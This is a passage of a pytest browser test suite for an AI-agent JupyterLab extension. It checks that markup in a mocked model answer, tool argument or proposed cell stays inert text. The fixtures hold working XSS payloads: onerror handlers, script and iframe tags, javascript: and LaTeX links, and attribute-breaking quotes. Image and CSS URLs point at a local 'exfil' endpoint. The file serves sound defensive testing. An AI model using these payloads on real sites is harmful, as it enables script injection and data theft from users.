        f'Summary. <img src=x onerror="{ATTACK_JS}">',
        "<script>window.__pwned='script'</script>",
        "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
        "[click me](javascript:window.__pwned='link') and [ref link][r]",
        "[r]: javascript:window.__pwned='reference'",
        "![exfil](http://127.0.0.1:9/exfil.png?secret=1) ![svg](data:image/svg+xml,x)",
        "$\\href{javascript:window.__pwned='math'}{math link}$ "
        "$\\style{background:url(http://127.0.0.1:9/exfil-css.png)}{styled}$",
        "- a list item\n\n  ```\n  <b>bold in code</b>\n  ```",
        # JupyterLab puts LaTeX back after markdown, quotes unescaped: inside an attribute
        "![$\" onerror=\"window.__pwned='alt'//$](plot.png) "
        "[quoted](https://example.com/$\" onmouseover=\"window.__pwned='href'//$)",
    ]
)
HOSTILE_PATH = (
    "<img src=y onerror=\"window.__pwned='tool'\"> javascript://%0Awindow.__pwned='toollink'"
)
SHOWN_AS_TEXT = (
    "Summary. <img src=x onerror=",
    "<script>window.__pwned='script'</script>",
    "<iframe src=",
    "click me",
    "<b>bold in code</b>",
    "window.__pwned='tool'",  # the tool's argument, in the tool line and the timeline
)
UNSAFE_HREF = re.compile(r"^\s*(javascript|data|vbscript|file):", re.IGNORECASE)


@pytest.fixture(scope="module")
def hostile_session(lab: Lab, browser: Any) -> Iterator[LabSession]:
    root = lab.directory("hostile")
    notebook = {
        "cells": [
            _code_cell(0, "%load_ext tiny_agent_nb"),
            _code_cell(1, "%%agent\nSummarise this directory."),
            _code_cell(2, "%agent timeline"),
        ],
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path = root / "hostile.ipynb"
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    lab.server.enqueue(
        tool_calls_reply(tool_call("call_0", "list_files", {"path": HOSTILE_PATH})),
        text_reply(HOSTILE_ANSWER),
    )
    with _lab(lab, path, [], [], browser) as session:
        yield session


def test_a_hostile_answer_shows_as_text_and_runs_nothing_also_after_reopening(
    hostile_session: LabSession,
) -> None:
    s = hostile_session
    with screenshot_on_failure(s, "browser-hostile-failure.png"):
        answer = s.page.locator(".jp-RenderedMarkdown", has_text="click me")
        answer.wait_for(state="visible")
        _check_inert(s, answer)
        s.screenshot("browser-hostile.png")

        # Save (Jupyter signs the notebook, so its outputs are trusted when reopened),
        # then open it again from disk.
        _save(s)
        saved = _saved_answer(s.notebook)
        assert "<img" not in saved and "](javascript:" not in saved, saved
        s.page.reload()
        answer = s.page.locator(".jp-RenderedMarkdown", has_text="click me")
        answer.wait_for(state="visible")
        # the reopened output is trusted: raw HTML in it would run
        assert "jp-mod-trusted" in (answer.get_attribute("class") or "")
        _check_inert(s, answer)
        s.screenshot("browser-hostile-reopened.png")


def _check_inert(s: LabSession, answer: Any) -> None:
    page = s.page
    # An absence cannot be polled: wait until every image has loaded or failed (an
    # onerror handler is then due), then for the tasks queued before ours to run (the
    # handler, which sets window.__pwned first).
    page.wait_for_function("() => [...document.images].every(i => i.complete)")
    page.evaluate("() => new Promise(done => setTimeout(() => setTimeout(done)))")
    assert page.evaluate("() => window.__pwned") is None
    # the fetch writes at the lab's root (the contents API's path is absolute)
    assert not (s.lab.root / "pwned.txt").exists()
    assert not (s.root / "pwned.txt").exists()
    attacks = [r for r in s.requests if "pwned" in r[1] or "exfil" in r[1]]
    assert attacks == [], attacks
    # nothing of it became an element or a live link
    found = page.locator(".jp-Notebook").evaluate(
        """n => ({
          elements: n.querySelectorAll('script, iframe, object, embed').length,
          images: [...n.querySelectorAll('img')].map(i => i.getAttribute('src')),
          handlers: [...n.querySelectorAll('*')].flatMap(
            e => e.getAttributeNames().filter(a => a.startsWith('on'))),
          hrefs: [...n.querySelectorAll('[href], [src], [xlink\\\\:href]')].map(
            e => e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('xlink:href')),
          linked: [...n.querySelectorAll('a')].filter(a => a.textContent.includes('click')).length,
        })"""
    )
    assert found["elements"] == 0, found
    assert found["handlers"] == [], found
    # the one image kept is the relative one, served by JupyterLab from beside the notebook
    kept = [src.split("?")[0] for src in found["images"]]
    beside = s.root.relative_to(s.lab.root).as_posix()
    assert kept == [f"http://127.0.0.1:{s.lab.port}/files/{beside}/plot.png"], found
    assert not [h for h in found["hrefs"] if h and UNSAFE_HREF.match(h)], found
    assert found["linked"] == 0, found
    # the model's markup is there to read, as text
    text = s.notebook_text()
    for shown in SHOWN_AS_TEXT:
        assert shown in text, f"{shown!r} is not shown; the notebook shows:\n{text}"
    assert answer.locator("pre code", has_text="<b>bold in code</b>").count() == 1


def _saved_answer(path: Path) -> str:
    """The answer's text/markdown as saved on disk."""
    cells = _saved_cells(path)
    markdown = [
        "".join(o["data"]["text/markdown"])
        for o in (cells[1].get("outputs", []) if cells else [])
        if "text/markdown" in o.get("data", {})
    ]
    assert markdown, f"{path.name} was saved without the answer"
    return markdown[-1]


# ---------------------------------------------------------------- a cell handed back

PROPOSED_CODE = (
    "# Review before running. <img src=x onerror=\"window.__pwned='proposed'\">\n"
    "totals = {'north': 1.5 + 4.0, 'south': 2.0}\n"
    "totals"
)


@pytest.fixture(scope="module")
def proposal_session(lab: Lab, browser: Any) -> Iterator[LabSession]:
    root = lab.directory("proposal")
    notebook = {
        "cells": [
            _code_cell(0, "%load_ext tiny_agent_nb"),
            _code_cell(1, "%%agent\nSum the totals per region, in a cell I can review."),
        ],
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path = root / "proposal.ipynb"
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    lab.server.enqueue(
        tool_calls_reply(tool_call("call_0", "propose_cell", {"code": PROPOSED_CODE})),
        text_reply("The sums are in the cell below; run it when it looks right."),
    )
    with _lab(lab, path, [], [], browser, proposed=1) as session:
        yield session


def test_a_proposed_cell_appears_below_the_agent_cell_with_its_code_not_run(
    proposal_session: LabSession,
) -> None:
    s = proposal_session
    with screenshot_on_failure(s, "browser-proposal-failure.png"):
        cells = s.page.locator(".jp-Notebook .jp-CodeCell")
        wait_until(lambda: cells.count() == 3, 30, "the proposed cell inserted")
        proposed = cells.nth(2)
        source = proposed.locator(".jp-InputArea-editor .cm-content").inner_text()
        assert source == PROPOSED_CODE
        # Below the agent cell, and not run: no execution count, no output.
        assert "%%agent" in cells.nth(1).locator(".jp-InputArea-editor").inner_text()
        prompt = proposed.locator(".jp-InputArea-prompt").inner_text()
        assert not re.search(r"\d", prompt), prompt
        assert proposed.locator(".jp-OutputArea-output").count() == 0
        # Code in an editor is text: the markup in its comment made no element.
        s.page.wait_for_timeout(500)  # an onerror handler fires within milliseconds
        assert s.page.evaluate("() => window.__pwned") is None
        assert proposed.locator("img").count() == 0
        assert "Proposed a new cell" not in s.notebook_text()  # the result is the model's
        assert "run it when it looks right" in s.notebook_text()
    proposed.scroll_into_view_if_needed()
    s.screenshot("browser-proposed-cell.png", ".jp-NotebookPanel .jp-WindowedPanel-viewport")
